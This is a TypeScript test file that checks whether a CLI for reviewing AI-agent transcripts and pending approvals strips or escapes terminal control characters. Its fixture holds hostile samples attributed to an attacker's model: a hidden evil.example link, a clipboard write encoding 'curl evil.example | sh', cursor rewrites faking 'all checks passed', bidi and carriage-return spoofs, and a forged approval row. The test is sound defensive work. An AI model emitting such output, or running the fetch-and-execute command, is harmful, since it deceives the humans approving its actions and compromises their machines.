import { describe, expect, it } from "vitest";
import type { TranscriptEvent } from "../../api/transcripts-api.ts";
import { type PendingItem, pendingTable } from "./pending.ts";
import { escapeControls, terminalText } from "./terminal-text.ts";
import { transcriptLines } from "./transcript.ts";

const ESC = "\u001b";
const BEL = "\u0007";
const ST = `${ESC}\\`;

/** What an attacker's model writes into a transcript, each aimed at the approver's terminal. */
const HOSTILE = {
  /** OSC 8: a hyperlink whose shown text hides its target. */
  hyperlink: `see ${ESC}]8;;https://evil.example/steal${ST}the approved runbook${ESC}]8;;${ST} now`,
  /** OSC 52: writes a command to the clipboard (base64 with + and /). */
  clipboard: `done${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA+/=${BEL}`,
  /** CSI: red text, then the cursor two lines up and that line erased — rewriting what was printed. */
  cursor: `${ESC}[31mALERT${ESC}[0m${ESC}[2A${ESC}[2Kall checks passed`,
  /** U+202E right-to-left override: "exe.txt" reads as "txt.exe". */
  bidi: "open invoice\u202Eexe.txt\u202C and \u2066isolated\u2069 \u200Fmarks\u200E\u061C",
  /** A bare CR: the rest overwrites the start of the line. */
  carriageReturn: "transfer 1000000 EUR to attacker\rtransfer 10 EUR to supplier",
  /** C1: U+009B is a one-character CSI; U+009D a one-character OSC. */
  c1: "\u009b2J screen cleared \u009d0;title\u009c and \u0085 NEL",
  /** Other C0: backspace over a word, a NUL, vertical tab. */
  c0: "approve\b\b\b\b\b\b\breject\u0000\u000b",
};

/** Every character that must not reach the terminal (LF only between lines, TAB nowhere here). */
// biome-ignore lint/suspicious/noControlCharactersInRegex: matching control characters is the point.
const FORBIDDEN = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;

function event(seq: number, text: string): TranscriptEvent {
  return { seq, source: "agent", kind: "assistant_text", payload: { text }, time: "2026-12-06T04:00:00Z" };
}

describe("the transcript's text form with a hostile transcript", () => {
  const lines = transcriptLines(Object.values(HOSTILE).map((text, i) => event(i + 1, text)));
  const [hyperlink, clipboard, cursor, bidi, carriageReturn, c1, c0] = lines as string[];

  it("prints no ESC, no C0 or C1 control and no bidi control, one line per event", () => {
    expect(lines).toHaveLength(Object.keys(HOSTILE).length);
    for (const line of lines) {
      expect(line).not.toMatch(FORBIDDEN);
      expect(line).not.toContain(ESC);
      expect(line).not.toContain("\n");
    }
  });

  it("drops whole OSC and CSI sequences, keeping the text they decorated", () => {
    expect(hyperlink).toMatch(/see the approved runbook now$/);
    expect(hyperlink).not.toContain("evil.example");
    expect(clipboard).toMatch(/ done$/);
    expect(cursor).toMatch(/ ALERTall checks passed$/);
  });

  it("shows bidi controls as visible escapes, in the order the text really has", () => {
    expect(bidi).toMatch(
      /open invoice\\u202eexe\.txt\\u202c and \\u2066isolated\\u2069 \\u200fmarks\\u200e\\u061c$/,
    );
  });

  it("keeps a bare CR from overwriting the line: both parts are shown", () => {
    expect(carriageReturn).toMatch(/transfer 1000000 EUR to attacker transfer 10 EUR to supplier$/);
  });

  it("escapes C1 and other C0 controls visibly", () => {
    // U+009B opens a CSI as ESC [ does: the whole sequence goes; the lone ST U+009C and NEL are escaped.
    expect(c1).not.toContain("2J");
    expect(c1).toContain("\\u009c and \\u0085 NEL");
    expect(c1).toContain("\\u0085 NEL");
    expect(c0).toContain("approve\\u0008");
    expect(c0).toContain("reject\\u0000");
  });
});

describe("the pending table with hostile names", () => {
  it("prints no control or bidi character and no forged row", () => {
    const item: PendingItem = {
      namespace: "team-a",
      name: "approval-1",
      session: `s${ESC}[2K\u202Edesrever`,
      capability: `erp.order.place\nteam-a  approval-2  fake  row`,
      arguments: "{}",
      requestedBy: `alice\rmallory`,
      createdAt: "2026-12-06T03:00:00Z",
      expiresAt: "2026-12-06T05:00:00Z",
      approvals: 0,
      requiredApprovals: 1,
      decisions: [],
      you: { may: "yes", why: "" },
    };
    const table = pendingTable([item], false, new Date("2026-12-06T04:00:00Z"));
    expect(table).not.toMatch(FORBIDDEN);
    expect(table.split("\n")).toHaveLength(2);
    expect(table).toContain("s\\u202edesrever");
    expect(table).toContain("alice mallory");
  });
});

describe("escapeControls, the escape every printed line gets", () => {
  it("keeps -o json valid and lossless: it parses back to the same value", () => {
    const value = { events: Object.values(HOSTILE) };
    const printed = escapeControls(JSON.stringify(value, null, 2));
    expect(printed).not.toMatch(FORBIDDEN);
    expect(JSON.parse(printed)).toEqual(value);
  });

  it("keeps TAB and LF, and plain text as it is", () => {
    expect(escapeControls("a\tb\nc — ü ✓ 中文 العربية")).toBe("a\tb\nc — ü ✓ 中文 العربية");
    expect(terminalText("plain text")).toBe("plain text");
  });
});
